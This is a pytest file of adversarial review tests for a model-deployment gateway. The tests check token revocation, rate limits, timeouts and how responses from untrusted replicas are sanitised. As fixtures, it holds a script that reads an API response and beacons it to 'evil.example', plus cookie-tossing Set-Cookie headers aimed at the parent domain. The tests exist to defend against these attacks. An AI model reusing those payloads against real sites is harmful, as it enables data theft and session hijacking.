"""Adversarial review of issue 16 (deployments), second wave: each test proves one finding
of /work/wt/REVIEW16.md and is marked xfail(strict=True) with the finding's id. The fixer
removes the mark once the finding is fixed (strict: a fixed finding whose mark stays fails).
"""

# ruff: noqa: F811 (model_servers: test_gateway's fixture, imported to be used here)

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import httpx
import pytest

from apps.accounts.tokens import token_revoke_all
from tests.asgi_server import serving
from tests.deployments.test_gateway import _deploy, _host_call, _token, model_servers  # noqa: F401

if TYPE_CHECKING:
    from apps.accounts.models import User
    from apps.teams.models import Team

pytestmark = pytest.mark.django_db(transaction=True)


def test_r1_tokens_revoked_all_at_once_are_refused_at_once(
    acme: Team,
    bob: User,
    model_servers: list[str],
    asgi_live_server: str,
) -> None:
    _deploy(acme, endpoints=model_servers[:1])
    plaintext = _token(bob)
    assert _host_call(asgi_live_server, token=plaintext).status_code == 200

    assert token_revoke_all(user=bob) == 1

    # Decision 12: a revoked token is refused on the next request (the cached decision
    # stays up to DECISION_SECONDS = 60 s since no generation was bumped).
    assert _host_call(asgi_live_server, token=plaintext).status_code == 401


def test_r2_a_public_deployments_rate_limit_is_not_escaped_by_sending_junk_bearers(
    acme: Team,
    model_servers: list[str],
    asgi_live_server: str,
) -> None:
    _deploy(acme, auth_mode="public", endpoints=model_servers[:1], rate_limit_per_minute=3)
    # One client (one address), a fresh made-up "credential" on each request: a public
    # deployment checks no credential, so each one must not be a new caller.
    answers = [_host_call(asgi_live_server, token=f"junk-{n}").status_code for n in range(6)]

    assert answers.count(429) >= 3


def _replica_app(headers: list[tuple[bytes, bytes]], body: bytes = b"x") -> Any:
    async def app(scope: dict[str, Any], receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            return
        await send({"type": "http.response.start", "status": 200, "headers": headers})
        await send({"type": "http.response.body", "body": body})

    return app


def test_r3_a_replica_cannot_set_lattices_or_notebooks_cookies_from_its_origin(
    acme: Team, asgi_live_server: str
) -> None:
    from django.conf import settings

    from apps.notebooks.proxy.asgi import lattice_cookies

    domain = settings.LATTICE_USER_CONTENT_DOMAIN
    tossed = [
        (b"set-cookie", f"{name}=attacker; Domain={domain}; Path=/".encode())
        for name in sorted(lattice_cookies())
    ]
    own = [
        (b"set-cookie", b"mine=1; Path=/; HttpOnly"),
        (b"set-cookie", f"wide=1; Path=/; domain=.{domain}".encode()),
    ]
    app = _replica_app([(b"content-type", b"text/plain"), *tossed, *own])
    with serving(app, name="cookie-tossing-replica") as replica:
        _deploy(acme, auth_mode="public", endpoints=[replica])
        answer = _host_call(asgi_live_server)
    assert answer.status_code == 200
    set_cookies = answer.headers.get_list("set-cookie")
    # The notebook proxy drops these (apps.notebooks.proxy.http._response_headers); here a
    # public deployment (anyone's) may overwrite Lattice's csrftoken/sessionid on the parent
    # domain (the embedded default serves Lattice at `localhost`) and every notebook's pass.
    assert [c for c in set_cookies if c.split("=", 1)[0] in lattice_cookies()] == []
    # A deployment's own cookies stay host-only: one with a Domain attribute is dropped.
    assert set_cookies == ["mine=1; Path=/; HttpOnly"]


def test_a_replicas_own_x_lattice_error_is_dropped_on_its_host(
    acme: Team, asgi_live_server: str
) -> None:
    # Issue 18's review, R6: only the gateway marks its answers; a replica's mark would make
    # its answer read as Lattice's (tests/client/test_review_findings.py: the invoke path).
    app = _replica_app([(b"content-type", b"text/plain"), (b"x-lattice-error", b"not_found")])
    with serving(app, name="spoofing-replica") as replica:
        _deploy(acme, auth_mode="public", endpoints=[replica])
        answer = _host_call(asgi_live_server)
    assert answer.status_code == 200
    assert "x-lattice-error" not in answer.headers


def test_r4_the_invoke_path_never_serves_a_replicas_script_on_lattices_origin(
    acme: Team, asgi_live_server: str
) -> None:
    app = _replica_app(
        [
            (b"content-type", b"text/javascript"),
            (b"service-worker-allowed", b"/"),
            (b"access-control-allow-origin", b"https://evil.example"),
            (b"access-control-allow-credentials", b"true"),
            (b"location", b"https://evil.example/"),
            (b"set-cookie", b"x=1"),
            (b"x-request-id", b"abc"),
        ],
        body=b"fetch('/api/v1/teams/').then(r => r.text())"
        b".then(t => navigator.sendBeacon('//evil.example', t))",
    )
    with serving(app, name="script-replica") as replica:
        _deploy(acme, auth_mode="public", endpoints=[replica])
        answer = httpx.get(f"{asgi_live_server}/api/v1/teams/acme/deployments/chat/invoke/sw.js")
    assert answer.status_code == 200
    assert answer.headers["content-security-policy"] == "sandbox"
    # CSP sandbox guards a document, not a script: <script src> or
    # navigator.serviceWorker.register() from any Lattice page loads this as Lattice's own
    # ('self'), so one HTML injection anywhere becomes script with a whole-origin worker.
    content_type = answer.headers["content-type"].split(";")[0].strip().lower()
    assert "javascript" not in content_type
    assert "ecmascript" not in content_type
    assert "service-worker-allowed" not in answer.headers
    assert "access-control-allow-credentials" not in answer.headers
    assert "access-control-allow-origin" not in answer.headers
    assert "location" not in answer.headers
    assert "set-cookie" not in answer.headers
    assert content_type == "application/octet-stream"
    assert answer.headers["content-disposition"] == "attachment"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["x-request-id"] == "abc"  # a replica's own x- header passes


def test_r4_the_invoke_path_keeps_safe_types_and_rebuilds_them(
    acme: Team, asgi_live_server: str
) -> None:
    # A list of types is read by browsers as its last: never passed as sent.
    listed = _replica_app([(b"content-type", b"text/plain, text/javascript")])
    with serving(listed, name="listed-type-replica") as replica:
        _deploy(acme, auth_mode="public", endpoints=[replica])
        answer = httpx.get(f"{asgi_live_server}/api/v1/teams/acme/deployments/chat/invoke/x")
    assert answer.headers["content-type"] == "application/octet-stream"
    assert answer.headers["content-disposition"] == "attachment"


def test_r4_json_answers_keep_their_type_on_the_invoke_path(
    acme: Team, model_servers: list[str], asgi_live_server: str
) -> None:
    _deploy(acme, auth_mode="public", endpoints=model_servers[:1])
    url = f"{asgi_live_server}/api/v1/teams/acme/deployments/chat/invoke/predict"
    answer = httpx.post(url, json={"text": "hi"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("application/json")
    assert "content-disposition" not in answer.headers
    assert answer.headers["cross-origin-resource-policy"] == "same-origin"


def test_r5_a_deployments_host_name_label_fits_in_dns(alice: User) -> None:
    from apps.deployments.endpoints import endpoint_host
    from apps.deployments.services import clean_name
    from apps.teams.services import team_create

    # Both slugs as the services make them: a team's up to 50 characters, a deployment's
    # up to 40, and "--" between: up to 92 characters in one label.
    team = team_create(actor=alice, name="Research and Development Laboratory of North Europe")
    _, slug = clean_name(team, "Customer support ticket classifier (production)")
    label = endpoint_host(team.slug, slug).split(".")[0]

    assert len(label) <= 63, f"{label!r} is {len(label)} characters: no resolver takes it"


def test_r6_a_signed_in_page_view_does_not_make_every_gateway_decision_stale(
    client: Any, bob: User, acme: Team
) -> None:
    from apps.deployments.routing import CREDENTIALS_GENERATION, generations

    client.force_login(bob)
    client.get(f"/t/{acme.slug}/deployments/")  # the first: the session's row is made
    before = generations([CREDENTIALS_GENERATION])[CREDENTIALS_GENERATION]

    # allauth's UserSessionsMiddleware (USERSESSIONS_TRACK_ACTIVITY) saves the UserSession
    # row on each request; the gateway's receiver takes that for a credential change, so
    # every process drops every cached decision of every deployment on every page view.
    assert client.get(f"/t/{acme.slug}/deployments/").status_code == 200
    after = generations([CREDENTIALS_GENERATION])[CREDENTIALS_GENERATION]

    assert after == before
    # An ended session (its row deleted) still makes the decisions stale at once.
    from allauth.usersessions.models import UserSession

    UserSession.objects.get(user=bob).delete()
    assert generations([CREDENTIALS_GENERATION])[CREDENTIALS_GENERATION] != after


def test_r7_a_held_request_whose_key_is_revoked_meanwhile_is_not_served(
    acme: Team,
    model_servers: list[str],
    asgi_live_server: str,
    settings: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import threading

    from django.utils import timezone

    from apps.deployments import controller
    from apps.deployments.models import DeploymentKey, Revision
    from tests.deployments.test_gateway import _replica, _sha

    settings.LATTICE_DEPLOYMENT_COLD_WAIT = 15.0
    deployment = _deploy(acme, auth_mode="protected")
    revision = Revision.objects.for_team(acme).get(deployment=deployment)
    key = "ldk_" + "h" * 40
    row = DeploymentKey.objects.create(
        team=acme, deployment=deployment, name="ci", key_hash=_sha(key), display_prefix=key[:8]
    )

    def revoke_then_ready() -> None:
        # While the request is held: the key is revoked, then a replica becomes ready.
        row.revoked_at = timezone.now()
        row.save(update_fields=["revoked_at"])
        _replica(revision, model_servers[0])

    def wake(deployment_id: int) -> None:
        threading.Timer(0.6, revoke_then_ready).start()

    monkeypatch.setattr(controller, "deployment_wake", wake)
    answer = _host_call(asgi_live_server, token=key, timeout=15)

    # Decision 12: a revoked key opens nothing from then on; this one still reaches the
    # replica (the hold loop re-reads the route only, never the decision, the deletion
    # or the pause).
    assert answer.status_code in (401, 403, 503)


@pytest.mark.parametrize("change", ["paused", "deleted", "member removed"])
def test_r7_a_held_request_is_refused_when_its_deployment_or_caller_changed_meanwhile(
    change: str,
    acme: Team,
    alice: User,
    bob: User,
    model_servers: list[str],
    asgi_live_server: str,
    settings: Any,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    import threading

    from django.utils import timezone

    from apps.deployments import controller
    from apps.deployments.models import Revision
    from apps.teams.models import Membership
    from apps.teams.services import member_remove
    from tests.deployments.test_gateway import _replica

    settings.LATTICE_DEPLOYMENT_COLD_WAIT = 15.0
    deployment = _deploy(acme, auth_mode="protected")
    revision = Revision.objects.for_team(acme).get(deployment=deployment)
    plaintext = _token(bob)

    def change_then_ready() -> None:
        if change == "paused":
            deployment.paused_reason = "the team's spend cap is reached"
            deployment.save(update_fields=["paused_reason"])
        elif change == "deleted":
            deployment.deleted_at = timezone.now()
            deployment.save(update_fields=["deleted_at"])
        else:
            member = Membership.objects.for_team(acme).get(user=bob)
            member_remove(team=acme, actor=alice, member=member)
        _replica(revision, model_servers[0])

    def wake(deployment_id: int) -> None:
        threading.Timer(0.6, change_then_ready).start()

    monkeypatch.setattr(controller, "deployment_wake", wake)
    answer = _host_call(asgi_live_server, token=plaintext, timeout=15)

    expected = {"paused": 503, "deleted": 404, "member removed": 403}[change]
    assert answer.status_code == expected, answer.text


def test_r9_a_replica_that_never_answers_gets_a_504_and_frees_its_in_flight_count(
    acme: Team, asgi_live_server: str, settings: Any
) -> None:
    """Review R9: no read timeout to replicas. Now LATTICE_DEPLOYMENT_REPLICA_TIMEOUT bounds
    the wait for an answer's head (504), and the request leaves the in-flight count."""
    import socket
    import threading
    import time

    from apps.deployments import metrics
    from apps.deployments.models import Revision

    settings.LATTICE_DEPLOYMENT_REPLICA_TIMEOUT = 1.0
    listener = socket.create_server(("127.0.0.1", 0))
    accepted: list[socket.socket] = []

    def accept() -> None:  # takes connections and reads, never answers
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            accepted.append(conn)

    threading.Thread(target=accept, daemon=True).start()
    try:
        port = listener.getsockname()[1]
        deployment = _deploy(acme, auth_mode="public", endpoints=[f"http://127.0.0.1:{port}"])
        revision = Revision.objects.for_team(acme).get(deployment=deployment)
        began = time.monotonic()
        answer = _host_call(asgi_live_server, timeout=10)
        took = time.monotonic() - began
    finally:
        listener.close()
        for conn in accepted:
            conn.close()

    assert answer.status_code == 504
    assert 1.0 <= took < 5
    assert accepted  # the replica was reached: a read timeout, not a refused connection
    # The gateway frees the count just after it sent the 504: a moment, not for ever.
    deadline = time.monotonic() + 2
    while metrics.counts.in_flight_now().get(revision.pk, 0) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert metrics.counts.in_flight_now().get(revision.pk, 0) == 0


def test_r5_a_deployment_made_with_a_long_team_slug_gets_a_slug_that_fits(alice: User) -> None:
    """Through the service: the slug is cut to what the team's slug leaves, and the API
    shows an origin; a deployment whose label does not fit (made before) shows none, says
    why, and its curl example uses the API path."""
    from apps.deployments.endpoints import MAX_LABEL, curl_example, endpoints
    from apps.deployments.services import clean_name
    from apps.teams.models import Team as TeamModel

    team = TeamModel.objects.create(name="Long", slug="t" * 60)
    _, slug = clean_name(team, "abc def")
    assert slug == "a"
    assert len(f"{slug}--{team.slug}") == MAX_LABEL

    from apps.deployments.models import Deployment

    old = Deployment.objects.create(team=team, name="Old", slug="old-one", auth_mode="public")
    urls = endpoints(old, lattice_host="lattice.example.com", secure=True)
    assert urls.origin == ""
    assert "63" in urls.origin_note
    assert "https://lattice.example.com/api/v1/teams/" in curl_example(old, None, urls)


def test_r9_an_answer_whose_body_stalls_is_cut_off_after_the_timeout(
    acme: Team, asgi_live_server: str, settings: Any
) -> None:
    """Review R9, the body: a replica that sends its head and then nothing more is cut off
    after LATTICE_DEPLOYMENT_REPLICA_TIMEOUT, not waited on for ever."""
    import socket
    import threading
    import time

    settings.LATTICE_DEPLOYMENT_REPLICA_TIMEOUT = 1.0
    listener = socket.create_server(("127.0.0.1", 0))
    accepted: list[socket.socket] = []

    def answer_a_little() -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            accepted.append(conn)
            conn.recv(65536)
            conn.sendall(
                b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 10\r\n\r\nx"
            )

    threading.Thread(target=answer_a_little, daemon=True).start()
    try:
        port = listener.getsockname()[1]
        _deploy(acme, auth_mode="public", endpoints=[f"http://127.0.0.1:{port}"])
        began = time.monotonic()
        with pytest.raises(httpx.HTTPError):
            _host_call(asgi_live_server, timeout=10).read()
        took = time.monotonic() - began
    finally:
        listener.close()
        for conn in accepted:
            conn.close()

    assert 1.0 <= took < 5
